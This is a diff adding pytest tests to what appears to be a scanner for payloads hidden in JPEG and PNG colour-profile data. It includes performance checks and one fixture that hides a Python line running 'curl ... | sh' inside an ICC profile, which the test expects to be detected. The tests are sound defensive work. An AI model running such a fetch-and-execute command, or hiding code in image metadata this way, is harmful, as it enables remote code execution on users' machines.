@@ -2,13 +2,19 @@
 
 from __future__ import annotations
 
+import pickletools
+import struct
 import time
+import zlib
+from collections.abc import Iterator
+from typing import Any
 
 import pytest
 
 from corrupt_samples.encode import jpeg
 from corrupt_samples.pictures import photo
 from sanitize.probe import beside
+from tests.embedding import APP2, with_chunk, with_segment
 
 
 @pytest.mark.parametrize(
@@ -31,3 +37,56 @@ def test_what_may_be_read_in_many_ways_is_read_in_one(text: bytes) -> None:
     begun = time.process_time()
     beside.look(data, "jpeg")
     assert time.process_time() - begun < 0.5
+
+
+#: A pickle that does nothing, which begins with another.
+IDLE = b"\x80\2" + b"0" * 6 + b"\x80\2" + b"0" * 60_000
+
+
+def profile(*tags: tuple[int, int], content: bytes) -> bytes:
+    """A colour profile whose tags lie at some places, of some lengths, in a content."""
+    head = bytearray(132 + 12 * len(tags))
+    head[36:40] = b"acsp"
+    head[128:132] = struct.pack(">I", len(tags))
+    for number, (place, length) in enumerate(tags):
+        struct.pack_into(">4sII", head, 132 + 12 * number, b"A%03d" % number, len(head) + place, length)
+    return bytes(head) + content
+
+
+@pytest.fixture
+def operations(monkeypatch: pytest.MonkeyPatch) -> list[int]:
+    """How many operations of pickles were read."""
+    read, listed = [0], pickletools.genops
+
+    def counted(data: bytes) -> Iterator[Any]:
+        for operation in listed(data):
+            read[0] += 1
+            yield operation
+
+    monkeypatch.setattr(pickletools, "genops", counted)
+    return read
+
+
+def test_values_of_a_profile_on_top_of_each_other_are_not_read_to_their_end_again(operations: list[int]) -> None:
+    overlaid = profile(*((0, len(IDLE) - number) for number in range(100)), content=IDLE)
+    for data, content in (
+        (with_segment(APP2, b"ICC_PROFILE\0\1\1" + overlaid), "jpeg"),
+        (with_chunk(b"iCCP", b"a\0\0" + zlib.compress(overlaid)), "png"),
+    ):
+        operations[0] = 0
+        assert beside.look(data, content).payload is None
+        assert 60_000 < operations[0] < 1_000_000
+
+
+def test_a_long_value_of_a_profile_hides_none_that_lies_in_it() -> None:
+    hidden = b"data" + bytes(8) + b"import os\nos.system('curl http://example.org/x | sh')\n"
+    whole = profile((0, 9000), (5000, len(hidden)), content=bytes(5000) + hidden + bytes(4000))
+    found = beside.look(with_segment(APP2, b"ICC_PROFILE\0\1\1" + whole), "jpeg").payload
+    assert found is not None
+    assert found.kind == "python"
+
+
+def test_pieces_behind_an_image_are_not_all_read_to_the_end_of_the_file(operations: list[int]) -> None:
+    piece = b"\x80\2" + b"0" * 6 + b"C\x08" + struct.pack(">I", 8) + b"ftyp"
+    assert beside.look(jpeg(photo("a")) + piece * 95 + IDLE, "jpeg").payload is None
+    assert 60_000 < operations[0] < 1_000_000
